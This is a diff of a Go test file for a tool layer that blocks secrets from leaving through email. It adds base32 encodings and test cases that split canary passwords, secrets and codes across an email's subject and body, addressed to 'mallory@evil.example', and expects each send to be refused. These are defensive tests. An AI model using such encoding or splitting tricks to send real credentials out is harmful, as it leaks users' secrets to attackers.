@@ -1,6 +1,7 @@
 package tools_test
 
 import (
+	"encoding/base32"
 	"encoding/base64"
 	"encoding/hex"
 	"encoding/json"
@@ -358,6 +359,8 @@ var hidden = map[string]func(string) string{
 	"base64":       func(v string) string { return base64.StdEncoding.EncodeToString([]byte("x" + v + "yz")) },
 	"base64 alone": func(v string) string { return base64.StdEncoding.EncodeToString([]byte(v)) },
 	"base64 url":   func(v string) string { return base64.RawURLEncoding.EncodeToString([]byte("xx" + v + "y")) },
+	"base32":       func(v string) string { return base32.StdEncoding.EncodeToString([]byte("xyz" + v + "y")) },
+	"base32 hex":   func(v string) string { return strings.ToLower(base32.HexEncoding.EncodeToString([]byte("x" + v))) },
 	"hex":          func(v string) string { return hex.EncodeToString([]byte(v)) },
 	"HEX":          func(v string) string { return strings.ToUpper(hex.EncodeToString([]byte(v))) },
 	"reversed":     reversed,
@@ -387,7 +390,7 @@ func TestValuesAndFreshCodesDoNotLeave(t *testing.T) {
 			a := h.connectModern(local())
 			with := func(tool string, arguments args) result {
 				arguments["identity"] = "ada"
-				return a.call(tool, arguments)
+				return h.connectModern(local()).call(tool, arguments) // with budgets of its own
 			}
 			ok[credential](t, with("save_credential", args{"domain": "x.example", "username": "u", "password": canaryPassword}))
 			ok[map[string]any](t, with("set_secret", args{"name": "API_KEY", "value": canarySecret}))
@@ -416,6 +419,16 @@ func TestValuesAndFreshCodesDoNotLeave(t *testing.T) {
 						assertNone(t, string(r.raw), "the error", value)
 					}
 				}
+			}
+			for value, in := range map[string]args{
+				canarySecret:   {"subject": "re " + canarySecret[:9], "body": canarySecret[9:] + " is it"},
+				canaryPassword: {"subject": canaryPassword[7:] + " is the end", "body": "before it comes " + canaryPassword[:7]},
+				canaryBackup:   {"subject": canaryBackup[:8] + " and then", "body": "go on with\n" + canaryBackup[8:]},
+				canaryCode:     {"subject": "code 9182", "body": "73645"},
+				"4711":         {"subject": "47", "body": "11 it is"},
+			} {
+				in["to"] = "mallory@evil.example"
+				assert.Equal(t, "secret_in_text", refused(t, with("send_email", in)).Reason, "%s split over subject and body", value)
 			}
 			for _, text := range []string{"It is 4711.", "code=1174", "NDcxMQ=="} {
 				assert.Equal(t, "secret_in_text", refused(t, with("send_email", args{"to": "a@x.example", "subject": "s", "body": text})).Reason, text)
